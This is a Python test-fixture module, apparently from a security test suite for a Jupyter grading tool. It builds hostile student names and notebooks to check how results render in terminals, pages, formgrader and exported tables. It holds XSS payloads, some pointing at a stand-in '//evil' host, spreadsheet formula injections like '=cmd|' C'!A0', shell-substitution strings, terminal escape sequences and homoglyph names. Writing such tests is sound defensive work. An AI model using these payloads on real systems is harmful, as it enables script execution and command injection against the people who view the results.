"""Attacks on people who look at the results: names of learners, Markdown, and what comes of them in
the terminal, on pages, in formgrader and in exported tables."""

from __future__ import annotations

from .attack import WORTH, Attack, Notebook, markdown
from .harm import ESCAPE, MARKUP, SCRIPT

NAMES = (
    "<img src=x onerror=pwned()>",
    "'quoted' & quoted",
    "[red][link=x]",
    "%s {0} {student_id} $(pwned) `pwned`",
    "seed",
    "lstm",
    "lstm.seed",
    "caf\u00e9",
    "cafe\u0301",
    "\u540d\u524d",
    "a b.c",
    "two..dots",
    "~",
    "NUL",
    "<!--",
)
"""Names of learners who did nothing wrong."""

FORMULAS = (
    "-rf",
    "--student",
    "=cmd|' C'!A0",
    "@SUM(1+1)",
    "x;=1+1;y",
    "x,,,,,100,0,100,100",
    "x|=1+1",
    "x:'=1+1",
    "\uff1d1+1",
    "x\uff1b\uff1d1+1",
    "\u22121",
    "\t=1+1",
    "x\n=1+1",
    '"x',
)
"""Names that a spreadsheet takes for a formula, or for another cell, in a table of marks."""
SPACES = (" =1+1", "aaa ", " aaa", "aa  a", "aaa\u3000", "aaa\ufe0f", "aaa\u3164")
"""Names that look like another one."""
REFUSED_NAMES = (*FORMULAS, *SPACES)

LONG_NAME = "\U0001f600" * 63
"""As long as the name of a folder can be, in bytes, but not in characters."""

UNPRINTABLE = ("two\nlines", "title\x1b]0;owned\x07", "right\u202eto left", "half\udcff")

EVIL_MARKDOWN = f"""
# {SCRIPT}
<script>pwned()</script><ScRiPt src=//evil>pwned()</sCrIpT >
<svg onload=pwned()><iframe srcdoc="<script>pwned()</script>"></iframe>
<style>body {{ display: none }}</style><meta http-equiv=refresh content=0;url=//evil>
<form action=//evil><input name=score><button formaction=javascript:pwned()>Mark</button></form>
<a href="javascript:pwned()">a</a> [b](javascript:pwned()) ![c](x"onerror="pwned())
[d](data:text/html,<script>pwned()</script>) &lt;script&gt; &#60;script&#62;pwned()&#60;/script&#62;
<math><mtext></p><style><img src onerror=pwned()></style></mtext></math>
$x<script>pwned()</script>$ `</code><script>pwned()</script>`
```html
</pre></code><script>pwned()</script>
```
"""


def evil_markdown(content: Notebook) -> None:
    content["cells"][1:1] = [markdown(EVIL_MARKDOWN), {"cell_type": "raw", "source": EVIL_MARKDOWN}]
    attached = markdown("![a](attachment:a.svg)")
    attached["attachments"] = {"a.svg": {"image/svg+xml": "<svg onload=pwned()>"}}
    content["cells"].append(attached)
    content["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"a": SCRIPT}}
    content["metadata"]["title"] = content["metadata"]["authors"] = SCRIPT


def evil_outputs(content: Notebook) -> None:
    """Outputs that were saved, and evil sources."""
    bundle = {
        "text/html": SCRIPT,
        "application/javascript": "pwned()",
        "image/svg+xml": "<svg onload=pwned()>",
        "text/markdown": EVIL_MARKDOWN,
        "text/latex": SCRIPT,
        "text/plain": ESCAPE,
    }
    for entry in content["cells"]:
        if entry["cell_type"] == "code":
            shown = {"output_type": "display_data", "metadata": {}, "data": bundle}
            entry["outputs"] = [shown]
            entry["metadata"]["tags"] = ["</script>", MARKUP]


WITH_PRELUDE = "lll"
"""Whoever begins with the cell that all attackers have, and plays fair."""

BYSTANDERS = [
    Attack(name, ("x = 1",) if name == WITH_PRELUDE else (), answers={}, deserves=WORTH)
    for name in ("aaa", "bystander_1", "bystander_2", "lll", "ooo", "ttt", "zzz")
]
ALIKE = "\u0430\u0430\u0430"
"""It looks like the first bystander's name."""
ODD_NAMES = [Attack(name, answers={}, deserves=WORTH) for name in (*NAMES, ALIKE)]

OUTWARD = [
    Attack("evil_markdown", ("x = 1",), change=evil_markdown),
    Attack("evil_outputs", ("x = 1",), change=evil_outputs),
    Attack("evil_source", (f"{SCRIPT}\n# {SCRIPT}\n'''{ESCAPE}{MARKUP}", f"# {SCRIPT}\nprint(1)")),
]
